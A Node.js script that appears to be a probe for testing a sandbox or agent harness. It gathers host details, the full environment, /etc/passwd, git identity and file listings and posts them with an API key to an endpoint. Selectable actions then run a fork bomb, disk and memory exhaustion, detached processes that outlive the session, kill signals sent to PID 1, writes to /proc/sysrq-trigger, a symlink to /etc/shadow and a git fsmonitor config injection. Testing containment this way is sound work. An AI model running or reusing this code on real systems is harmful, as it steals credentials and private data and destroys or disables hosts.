// Tells its endpoint what it sees of the machine, then does what DEEDS says.
import { execFileSync, spawn } from 'node:child_process';
import fs from 'node:fs';
import http from 'node:http';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';

const text = (file) => {
  try {
    return fs.readFileSync(file, 'utf8');
  } catch (error) {
    return error.code;
  }
};
const git = (...args) => {
  try {
    return execFileSync('git', args, { encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'] }).trim();
  } catch {
    return '';
  }
};
const list = (directory) => fs.readdirSync(directory, { recursive: true }).filter((name) => !name.startsWith('.git/')).sort();
const counter = path.join(os.homedir(), 'runs');
const runs = Number(text(counter)) || 0;
fs.writeFileSync(counter, String(runs + 1));

const seen = {
  argv: process.argv.slice(2),
  host: os.hostname(),
  cards: os.networkInterfaces(),
  user: os.userInfo(),
  home: os.homedir(),
  cwd: process.cwd(),
  zone: Intl.DateTimeFormat().resolvedOptions().timeZone,
  offset: new Date(2026, 0, 15).getTimezoneOffset(),
  now: new Date().toISOString(),
  env: process.env,
  runs,
  etc: { hostname: text('/etc/hostname'), timezone: text('/etc/timezone'), machine: text('/etc/machine-id'), passwd: text('/etc/passwd'), hosts: text('/etc/hosts') },
  git: { remote: git('remote', 'get-url', 'origin'), name: git('config', 'user.name'), email: git('config', 'user.email'), branch: git('branch', '--show-current'), status: git('status', '--porcelain'), log: git('log', '--oneline') },
  files: list('.'),
  homeFiles: list(os.homedir()),
  asked: (process.env.ASKED ?? '').split(' ').filter(Boolean).map((file) => text(file)),
  root: fs.readdirSync('/').sort(),
  run: fs.readdirSync('/run').sort(),
  one: { comm: text('/proc/1/comm'), cmdline: text('/proc/1/cmdline') },
  mounts: text('/proc/self/mountinfo'),
  cgroup: text('/proc/self/cgroup'),
  tracer: /TracerPid:\t(\d+)/.exec(text('/proc/self/status'))?.[1],
};
const base = process.env.ANTHROPIC_BASE_URL;
const key = process.env.ANTHROPIC_API_KEY;
const send = (url, body, headers = {}) =>
  new Promise((done, fail) => {
    const request = http.request(url, { method: body ? 'POST' : 'GET', headers: { 'content-type': 'application/json', ...headers }, agent: false }, (answer) => {
      let got = '';
      answer.on('data', (part) => (got += part));
      answer.on('end', () => done({ status: answer.statusCode, headers: answer.headers, body: got }));
    });
    request.on('error', fail);
    request.end(body);
  });
await send(`${base}/seen`, JSON.stringify({ ...seen, key }));
const message = JSON.stringify({ model: 'm', max_tokens: 10, messages: [{ role: 'user', content: 'hello' }] });
const answers = [];
for (let i = 0; i < 2; i++) answers.push(await send(`${base}/v1/messages`, message));
answers.push(await send(`${base}/api/flags`));
console.log(JSON.stringify(answers));

const deeds = {
  async listen() {
    await new Promise((done) => net.createServer().listen(45678, '127.0.0.1', done));
    setTimeout(() => process.exit(0), 50);
  },
  detach() {
    const code = `setTimeout(() => require('http').get('${base}/late', () => process.exit(0)), 100)`;
    spawn(process.execPath, ['-e', code], { detached: true, stdio: 'ignore' }).unref();
  },
  stay() {
    spawn('sleep', ['600'], { detached: true, stdio: 'ignore' }).unref();
  },
  never() {
    setInterval(() => {}, 1000);
  },
  fork() {
    const code = "const { spawn } = require('child_process'); setInterval(() => { for (let i = 0; i < 20; i++) try { spawn(process.execPath, ['-e', process.env.AGAIN], { stdio: 'ignore', detached: true }).on('error', () => {}); } catch {} }, 5)";
    spawn(process.execPath, ['-e', code], { env: { ...process.env, AGAIN: code }, stdio: 'ignore' });
    setInterval(() => {}, 1000);
  },
  fill() {
    const chunk = Buffer.alloc(8 << 20, 1);
    for (let i = 0; ; i++) for (let j = 0; j < 8; j++) fs.appendFileSync(path.join([os.homedir(), '.', '/tmp'][i % 3], `fill-${i}`), chunk);
  },
  names() {
    for (let i = 0; ; i++) fs.writeFileSync(`/tmp/name-${i}`, '');
  },
  print() {
    const chunk = Buffer.alloc(1 << 20, 'x');
    for (;;)
      try {
        fs.writeSync(1, chunk);
      } catch (error) {
        if (error.code !== 'EAGAIN') throw error;
      }
  },
  memory() {
    const held = [];
    for (;;) held.push(Buffer.alloc(16 << 20, 1));
  },
  hurry() {
    // Ends before its child does, which needs a moment and no more.
    spawn('sh', ['-c', 'for i in 1 2 3 4 5 6 7 8 9 10; do :; done; sleep 0.05'], { stdio: 'ignore' }).unref();
  },
  attack() {
    for (const signal of ['SIGKILL', 'SIGSTOP'])
      try {
        process.kill(1, signal);
      } catch {
        // Refused.
      }
    for (const file of ['/proc/1/mem', '/proc/1/environ', '/.vitrine/first-stage', '/proc/sysrq-trigger', '/proc/sys/kernel/core_pattern'])
      try {
        fs.writeFileSync(file, 'x');
      } catch {
        // Refused.
      }
    const long = 'a'.repeat(250);
    for (let i = 0; i < 20000; i++)
      try {
        fs.openSync(`/tmp/${long}/${long}/${i}`);
      } catch {
        // It is the asking that counts.
      }
    for (let i = 0; i < 40; i++) execFileSync('/bin/true', ['\u001b[2J' + 'x'.repeat(100000)]);
    const socket = net.connect(Number(new URL(base).port || 80), new URL(base).hostname, () => {
      socket.write('GET / HTTP/1.1\r\nHost: ' + 'h'.repeat(70000) + '\r\n' + 'x'.repeat(200000));
      socket.destroy();
    });
    socket.on('error', () => {});
  },
  tree() {
    fs.symlinkSync('/etc/shadow', path.join(os.homedir(), 'link'));
    execFileSync('mkfifo', [path.join(os.homedir(), 'pipe')]);
    fs.mkdirSync(path.join(os.homedir(), 'closed'));
    fs.writeFileSync(path.join(os.homedir(), 'closed/inside'), 'kept');
    fs.chmodSync(path.join(os.homedir(), 'closed'), 0);
    fs.writeFileSync(Buffer.concat([Buffer.from(os.homedir() + '/'), Buffer.from([0x62, 0xff, 0x0a])]), 'bytes');
    fs.appendFileSync('.git/config', '[core]\n\tfsmonitor = evil\n');
    fs.rmSync('README.md');
    let deep = '/tmp';
    for (let i = 0; i < 90; i++) fs.mkdirSync((deep += '/d'));
  },
};
for (const deed of (process.env.DEEDS ?? '').split(' ').filter(Boolean)) await deeds[deed]();
